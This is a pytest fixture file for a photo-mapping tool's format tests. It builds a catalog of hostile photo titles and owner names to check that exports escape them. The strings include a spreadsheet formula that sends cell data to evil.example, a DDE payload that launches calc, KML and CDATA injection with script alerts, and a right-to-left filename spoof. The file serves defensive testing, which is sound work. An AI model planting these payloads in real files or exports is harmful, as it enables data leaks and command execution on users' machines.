# SPDX-License-Identifier: Apache-2.0
"""Fixtures for the format and shell tests: the built photomap binary, run in a fresh folder with a
fresh cache and nothing from the developer's environment, and a catalog of hostile records.

Set up with scripts/install-browser-test-deps (one venv for all Python-driven tests), run with
`PHOTOMAP_BIN=.build/debug/photomap .venv-browser/bin/pytest -q Tests/Formats`.
"""

import json
import os
import pathlib
import subprocess
import sys

import pytest

REPO = pathlib.Path(__file__).resolve().parents[2]
BINARY = os.environ.get("PHOTOMAP_BIN", str(REPO / ".build/debug/photomap"))
sys.path.insert(0, str(REPO / "Tests/Support"))
import prebuilt_indexes  # noqa: E402 (from Tests/Support, put on the path above)

NEW_YORK = "LATOAYBHhITBWjUq5GkE"  # the embedded catalog's place with photos without geo
HOSTILE_PLACE = "HOSTILEPLACE"

# Titles each format must carry as the same text: markup, quotes, ampersands, line breaks,
# spreadsheet formulas, right-to-left text and a right-to-left override, astral characters.
HOSTILE_TITLES = [
    'He said "hi", <b>bold</b> & \'more\'',
    '</Placemark><Placemark><name>injected</name>',
    ']]><![CDATA[ <script>alert(1)</script>',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "Line one\nLine two\r\nLine three",
    "שלום עולם",
    "مرحبا بالعالم",
    "\u202egpj.exe",
    "📷 Photo, with comma",
]
# Owner names are written as Flickr sends them (titles are trimmed): tab and carriage-return starts.
HOSTILE_OWNERS = ["\tTabbed owner", "\rReturned owner", "=cmd|' /C calc'!A0"]


class Run:
    """One photomap run's exit status, stdout and stderr."""

    def __init__(self, completed):
        self.status = completed.returncode
        self.stdout = completed.stdout
        self.stderr = completed.stderr.decode("utf-8", "replace")

    @property
    def text(self):
        return self.stdout.decode("utf-8")


@pytest.fixture
def photomap(tmp_path):
    """photomap(*arguments, catalog=None) runs the binary in a fresh folder with a fresh cache (on the
    embedded catalog, one holding the indexes its first use makes)."""
    home = tmp_path / "home"
    home.mkdir()

    def run(*arguments, catalog=None, check=True):
        cache = tmp_path / "cache"
        environment = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home),
                       "PHOTOMAP_CACHE": str(cache), "LC_ALL": "C.UTF-8"}
        if catalog is not None:
            environment["PHOTOMAP_FIXTURES"] = str(catalog)
        elif not cache.exists():
            prebuilt_indexes.copy_into(BINARY, cache)
        completed = subprocess.run([BINARY, *arguments], cwd=tmp_path, env=environment, capture_output=True,
                                   stdin=subprocess.DEVNULL, timeout=300)
        result = Run(completed)
        if check:
            assert result.status == 0, result.stderr
        return result

    return run


@pytest.fixture(scope="session")
def hostile_catalog(tmp_path_factory):
    """A one-place catalog in Flickr's answer format: the hostile titles and owners, and photos
    without a coordinate (Flickr's 0,0 and no geo fields at all)."""
    folder = tmp_path_factory.mktemp("hostile") / "catalog"
    (folder / "photos" / HOSTILE_PLACE).mkdir(parents=True)
    place = {"place_id": HOSTILE_PLACE, "woeid": "1", "latitude": "45.43", "longitude": 4.39,
             "place_url": "/France/Saint-Étienne & <Loire>", "place_type": "locality", "place_type_id": 7,
             "_content": 'Saint-Étienne & <Loire>, "Région", France', "woe_name": "Saint-Étienne", "photo_count": 20}
    (folder / "top-places.json").write_text(json.dumps({"places": {"total": 1, "place": [place]}, "stat": "ok"}))
    photos = []
    for index, title in enumerate(HOSTILE_TITLES):
        photos.append(photo(index, title=title, description='<a href="javascript:alert(1)">x</a> & <i>more</i>'))
    for index, owner in enumerate(HOSTILE_OWNERS):
        photos.append(photo(100 + index, title=f"Owned {index}", ownername=owner))
    photos.append(photo(200, title="No geo (Flickr's 0,0)", latitude=0, longitude=0))
    no_fields = photo(201, title="No geo fields at all")
    del no_fields["latitude"], no_fields["longitude"]
    photos.append(no_fields)
    answer = {"photos": {"page": 1, "pages": 1, "perpage": 100, "total": str(len(photos)), "photo": photos}, "stat": "ok"}
    (folder / "photos" / HOSTILE_PLACE / "page-1.json").write_text(json.dumps(answer))
    return folder


def photo(index, title="", description="", ownername="Owner", latitude=None, longitude=None):
    pid = str(60_000_000_000 + index)
    base = f"https://live.staticflickr.com/65535/{pid}_abc"
    return {"id": pid, "owner": "12345678@N05", "secret": "abc", "server": "65535", "title": title,
            "description": {"_content": description}, "datetaken": f"2020-05-{1 + index % 28:02d} 12:34:56",
            "ownername": ownername, "tags": "hostile",
            "latitude": 45.43 + index / 1000 if latitude is None else latitude,
            "longitude": str(4.39 + index / 1000) if longitude is None else longitude,
            "place_id": HOSTILE_PLACE, "url_sq": f"{base}_s.jpg", "url_m": f"{base}_m.jpg"}
